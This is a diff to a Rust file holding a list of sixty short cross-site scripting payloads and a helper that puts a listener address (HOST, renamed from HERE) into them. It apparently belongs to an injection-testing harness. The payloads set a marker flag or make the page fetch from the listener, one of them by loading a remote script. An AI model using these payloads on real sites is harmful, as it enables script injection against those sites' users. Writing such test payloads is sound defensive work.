@@ -1,7 +1,7 @@
-//! Texts that a careless page would run. Each sets the global `ran`, or asks the listener (`HERE`) for something; each is
-//! short enough for a name.
+//! Texts that an unsafe page would run. Each sets the global `ran` or sends a request to the listener (`HOST`), and is
+//! short enough for a name field.
 
-/// Sixty of them.
+/// The texts, with `HOST` in the place of the listener's address.
 pub const PAYLOADS: [&str; 60] = [
     "<img src=x onerror=ran=1>",
     "<svg onload=ran=1>",
@@ -29,19 +29,19 @@ pub const PAYLOADS: [&str; 60] = [
     "<button form=f formaction=javascript:ran=1>x</button>",
     "<marquee onstart=ran=1>x</marquee>",
     "<div onmouseover=ran=1>x</div>",
-    "<img src=//HERE/a>",
-    "<link rel=stylesheet href=//HERE/b>",
-    "<script src=//HERE/script></script>",
-    "<img srcset=//HERE/c>",
-    "<video poster=//HERE/d></video>",
-    "<svg><image href=//HERE/e></svg>",
-    "<div style=background:url(//HERE/f)>x</div>",
-    "<meta http-equiv=refresh content=9;url=//HERE/g>",
-    "<base href=//HERE/>",
-    "<iframe src=//HERE/h></iframe>",
-    "<object data=//HERE/i></object>",
-    "<embed src=//HERE/j>",
-    "<style>@import '//HERE/k';</style>",
+    "<img src=//HOST/a>",
+    "<link rel=stylesheet href=//HOST/b>",
+    "<script src=//HOST/script></script>",
+    "<img srcset=//HOST/c>",
+    "<video poster=//HOST/d></video>",
+    "<svg><image href=//HOST/e></svg>",
+    "<div style=background:url(//HOST/f)>x</div>",
+    "<meta http-equiv=refresh content=9;url=//HOST/g>",
+    "<base href=//HOST/>",
+    "<iframe src=//HOST/h></iframe>",
+    "<object data=//HOST/i></object>",
+    "<embed src=//HOST/j>",
+    "<style>@import '//HOST/k';</style>",
     "<math><a xlink:href=javascript:ran=1>x</a></math>",
     "<svg><a href=javascript:ran=1><text y=9>x</text></a></svg>",
     "<svg><script>ran=1</script></svg>",
@@ -65,7 +65,7 @@ pub const PAYLOADS: [&str; 60] = [
     "\\u003cimg src=x onerror=ran=1\\u003e",
 ];
 
-/// The payload for this listener.
-pub fn payload(n: usize, here: &str) -> String {
-    PAYLOADS[n % PAYLOADS.len()].replace("HERE", here)
+/// Returns a payload with the address of the listener in it.
+pub fn payload(n: usize, host: &str) -> String {
+    PAYLOADS[n % PAYLOADS.len()].replace("HOST", host)
 }
